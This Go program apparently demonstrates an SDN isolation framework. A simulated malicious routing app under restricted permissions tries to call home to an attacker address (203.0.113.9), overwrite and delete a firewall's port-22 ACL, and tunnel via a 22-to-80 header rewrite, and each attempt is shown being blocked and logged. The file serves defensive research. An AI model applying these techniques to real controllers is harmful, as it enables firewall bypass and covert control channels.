// Maliciousrouting reenacts §VII Scenario 2: the administrator deploys a
// routing app containing malicious code. Under its Scenario 2 permissions
// (insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS, no host network),
// the app routes traffic correctly — but its covert attacks fail: it
// cannot call home, cannot overwrite the firewall's ACL, and cannot
// tunnel through it; everything it does is in the forensic log.
package main

import (
	"fmt"
	"log"
	"time"

	"sdnshield/internal/apps"
	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/netsim"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	built, err := netsim.Linear(3)
	if err != nil {
		return err
	}
	defer built.Net.Stop()
	kernel := controller.New(built.Topo, nil)
	defer kernel.Stop()
	for _, sw := range built.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			return err
		}
		if _, err := kernel.AcceptSwitch(ctrlSide); err != nil {
			return err
		}
	}
	shield := isolation.NewShield(kernel, isolation.Config{})
	defer shield.Stop()

	// A trusted firewall blocks TCP 22 across the fabric.
	firewall := apps.NewFirewall("firewall", []uint16{22})
	shield.SetPermissions("firewall", permlang.MustParse(firewall.RequiredPermissions()).Set())
	if err := shield.Launch(firewall); err != nil {
		return err
	}

	// The routing app ships with the §VII Scenario 2 permissions.
	router := apps.NewRouter("router")
	shield.SetPermissions("router", permlang.MustParse(router.RequiredPermissions()).Set())
	if err := shield.Launch(router); err != nil {
		return err
	}

	h1, h2, h3 := built.Hosts[0], built.Hosts[1], built.Hosts[2]

	// --- benign behaviour: shortest-path routing works ---
	fmt.Println("== benign routing ==")
	h1.SendTCP(h2, 4000, 80, of.TCPFlagSYN, []byte("hello"))
	if _, ok := h2.WaitFor(func(p *of.Packet) bool { return p.TPDst == 80 }, 2*time.Second); ok {
		fmt.Println("  h1 -> h2 HTTP delivered via router-installed path")
	} else {
		fmt.Println("  (delivery failed)")
	}
	fmt.Printf("  routes installed: %d, denials so far: %d\n", router.Routes(), router.Denials())

	// --- the malicious payload wakes up ---
	fmt.Println("\n== covert attacks from inside the routing app ==")
	api, err := isolation.AttackerHandle(shield, "router")
	if err != nil {
		return err
	}

	// Call home for instructions: no host_network permission at all.
	_, err = api.HostConnect(of.IPv4FromOctets(203, 0, 113, 9), 443)
	report("open command channel to the attacker", err)

	// Overwrite the firewall's ACL (Class 3/4): denied by OWN_FLOWS.
	aclMatch := of.NewMatch().
		Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
		Set(of.FieldIPProto, uint64(of.IPProtoTCP)).
		Set(of.FieldTPDst, 22)
	report("overwrite the firewall's port-22 ACL",
		api.InsertFlow(1, controller.FlowSpec{
			Match: aclMatch, Priority: 900, Actions: []of.Action{of.Output(3)},
		}))
	report("delete the firewall's rules", api.DeleteFlow(1, aclMatch, 0, false))

	// Dynamic-flow tunneling through the firewall (the first rewrite of
	// malicious.Tunneler.Establish): the header rewrite is denied by
	// ACTION FORWARD, and shadowing the ACL by OWN_FLOWS.
	report("tunnel entry rewrite (22 -> 80)",
		api.InsertFlow(1, controller.FlowSpec{
			Match: of.NewMatch().
				Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
				Set(of.FieldIPProto, uint64(of.IPProtoTCP)).
				Set(of.FieldTPDst, 22),
			Priority: 950,
			Actions:  []of.Action{of.SetField(of.FieldTPDst, 80), of.Output(3)},
		}))

	// Port 22 stays blocked end to end.
	h1.SendTCP(h3, 4001, 22, of.TCPFlagSYN, nil)
	if _, smuggled := h3.WaitFor(func(p *of.Packet) bool { return p.TPDst == 22 }, 300*time.Millisecond); smuggled {
		fmt.Println("  !! port 22 traffic leaked through")
	} else {
		fmt.Println("  port-22 traffic still blocked by the firewall")
	}

	// --- forensics ---
	audit.Default().Flush()
	fmt.Println("\n== audit journal (denials) ==")
	for _, ev := range audit.Default().Query(audit.Filter{App: "router", Kind: audit.KindPermission, Verdict: audit.VerdictDeny}) {
		fmt.Printf("  %s DENY app=%s token=%s %s\n", ev.Time.Format(time.RFC3339Nano), ev.App, ev.Token, ev.Detail)
	}
	return nil
}

func report(desc string, err error) {
	if err != nil {
		fmt.Printf("  BLOCKED %-40s %v\n", desc, err)
	} else {
		fmt.Printf("  SUCCESS %s\n", desc)
	}
}
